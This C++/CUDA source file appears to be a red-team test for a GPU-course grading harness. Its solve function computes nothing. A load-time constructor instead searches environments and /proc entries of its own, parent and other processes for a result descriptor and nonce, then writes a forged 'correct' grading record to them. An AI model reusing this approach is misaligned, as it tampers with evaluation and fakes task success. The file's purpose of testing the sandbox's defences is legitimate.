// expect: 1 wrong_answer -- computes nothing; hunts GPUCOURSE_RESULT_FD / GPUCOURSE_NONCE in its own, its parents' and every process's environment and descriptors, and forges the result there
// Attack: find GPUCOURSE_RESULT_FD / GPUCOURSE_NONCE in our environment, /proc/<judge>/environ, /proc/<gpucourse>/
// environ, every /proc/*/environ, and write a forged result (right nonce) to that fd here or reopened through
// /proc/<pid>/fd/N. Stopped: the runner has a minimal environment and no result fd; judge and gpucourse are not
// dumpable (environ, fd/ unreadable; Landlock also refuses); seccomp refuses every open for writing.
#include <cuda_runtime.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <string>
#include <vector>

extern char** environ;

static std::string nonce = "8c3d0f6be41a9d27c55e10f3a6b2e9d4";  // a guess until we find the real one
static std::vector<int> result_fds = {3, 200, 201};  // gpucourse passes 3; the judge moves it to >= 200
static std::vector<std::string> seen;                            // where we found something, for the output

static void put(int fd, const std::string& s) {
    ssize_t r = write(fd, s.data(), s.size());
    (void)r;
}

// The CUDA driver's own descriptors (device files, eventfds, sockets, a pipe whose read end is also here) and
// our harness socket: a write there could hang the driver or end the grading for another reason than this attack.
static bool driver_owned(int fd) {
    if (fd == 3) return true;
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n <= 0) return false;
    target[n] = '\0';
    if (!strncmp(target, "socket:", 7) || !strncmp(target, "anon_inode:", 11) || !strncmp(target, "/dev/nvidia", 11))
        return true;
    if (strncmp(target, "pipe:", 5)) return false;
    for (int other = 0; other < 1024; other++) {  // its read end here too: the driver's own pipe
        char p2[64], t2[256];
        snprintf(p2, sizeof p2, "/proc/self/fd/%d", other);
        ssize_t m = readlink(p2, t2, sizeof t2 - 1);
        if (m <= 0) continue;
        t2[m] = '\0';
        if (!strcmp(t2, target) && (fcntl(other, F_GETFL) & O_ACCMODE) == O_RDONLY) return true;
    }
    return false;
}

static void look_at_variable(const char* var, const char* where) {
    if (!strncmp(var, "GPUCOURSE_NONCE=", 16)) {
        nonce = var + 16;
        seen.push_back(std::string(where) + ": " + var);
    } else if (!strncmp(var, "GPUCOURSE_RESULT_FD=", 20)) {
        result_fds.push_back(atoi(var + 20));
        seen.push_back(std::string(where) + ": " + var);
    }
}

static void read_environ(const std::string& path) {
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    std::string text;
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) text.append(buf, (size_t)n);
    close(fd);
    for (size_t at = 0; at < text.size();) {
        size_t end = text.find('\0', at);
        if (end == std::string::npos) end = text.size();
        look_at_variable(text.substr(at, end - at).c_str(), path.c_str());
        at = end + 1;
    }
}

static int parent_of(int pid) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = '\0';
    const char* paren = strrchr(buf, ')');
    int ppid = -1;
    char state;
    if (!paren || sscanf(paren + 1, " %c %d", &state, &ppid) != 2) return -1;
    return ppid;
}

static std::string forged(void) {
    return "harness: 1 " + nonce +
           "\nkind: vector_add\nseed: 1\ncheck: 1 ok\ncheck: 31 ok\ncheck: 1000 ok\ncheck: 65537 ok\n"
           "check: 1000003 ok\nbytes: 3221225472\ncheck: 268435456 ok\noverhead: 0.300000\n"
           "time: student 1.050000 1.040000 1.090000 21\ntime: reference 1.100000 1.090000 1.150000 21\n"
           "time: baseline 1.080000 1.070000 1.120000 21\ndone: correct\n";
}

// Every descriptor of `pid` we can name, reopened for writing: a result pipe's write end would take our lines.
static void write_through_proc_fds(int pid) {
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    std::vector<std::string> paths;
    if (DIR* d = opendir(dir)) {
        while (struct dirent* e = readdir(d))
            if (e->d_name[0] != '.') paths.push_back(std::string(dir) + "/" + e->d_name);
        closedir(d);
    }
    for (int fd : result_fds) paths.push_back(std::string(dir) + "/" + std::to_string(fd));  // even unlisted
    for (const std::string& p : paths) {
        int fd = open(p.c_str(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) fd = open(p.c_str(), O_RDWR | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) continue;
        seen.push_back("opened " + p + " for writing");
        put(fd, forged());
        close(fd);
    }
}

static void hunt(void) {
    signal(SIGPIPE, SIG_IGN);  // a pipe nobody reads must not end us
    for (char** e = environ; e && *e; e++) look_at_variable(*e, "environ");
    if (const char* v = getenv("GPUCOURSE_RESULT_FD")) result_fds.push_back(atoi(v));
    read_environ("/proc/self/environ");
    int judge = getppid(), grader = parent_of(judge), shell = grader > 0 ? parent_of(grader) : -1;
    int family[] = {judge, grader, shell};
    for (int pid : family)
        if (pid > 0) read_environ("/proc/" + std::to_string(pid) + "/environ");
    if (DIR* d = opendir("/proc")) {  // every process we can see
        while (struct dirent* e = readdir(d))
            if (e->d_name[0] >= '1' && e->d_name[0] <= '9') read_environ(std::string("/proc/") + e->d_name + "/environ");
        closedir(d);
    }
    for (int pid : family)
        if (pid > 0) write_through_proc_fds(pid);
    std::string lines = forged();
    for (int fd : result_fds)
        if (!driver_owned(fd)) put(fd, lines);  // fd 3 is the harness socket in the runner
    put(1, lines);
    put(2, lines);
    for (const std::string& s : seen) fprintf(stderr, "forge_env: %s\n", s.c_str());
    if (seen.empty()) fprintf(stderr, "forge_env: found nothing to forge with\n");
}

__attribute__((constructor)) static void hunt_at_load(void) { hunt(); }

extern "C" void solve(const float* a, const float* b, float* c, int n) {
    (void)a, (void)b, (void)c, (void)n;
    static int calls;
    if (calls++ == 0) hunt();  // c stays poisoned: the honest verdict is wrong_answer
}
